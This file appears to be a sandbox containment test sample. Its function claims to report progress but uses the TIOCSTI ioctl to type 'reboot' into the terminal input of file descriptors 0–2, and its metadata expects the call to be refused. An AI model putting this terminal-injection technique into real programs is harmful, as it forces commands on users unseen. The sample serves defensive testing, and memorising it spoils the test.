"""Shows progress on the terminal.

[corpus]
tries = "pushes a command into the input of the operator's terminal"
inputs = [{done = 0.5}]
outputs = ["50%"]
expected = "contained"
outcomes = ["ok"]
refused = ["ioctl"]
quarantine = false
why = "the call is refused and counted; there is no terminal either. One refused ioctl is what any program makes that asks a pipe for what it is not"
"""

import fcntl

TIOCSTI = 0x5412


def run(payload, context):
    for number in range(3):
        try:
            for letter in b"reboot\n":
                fcntl.ioctl(number, TIOCSTI, bytes([letter]))
            print("LOOT typed")
        except OSError:
            continue
    return f"{payload['done']:.0%}"
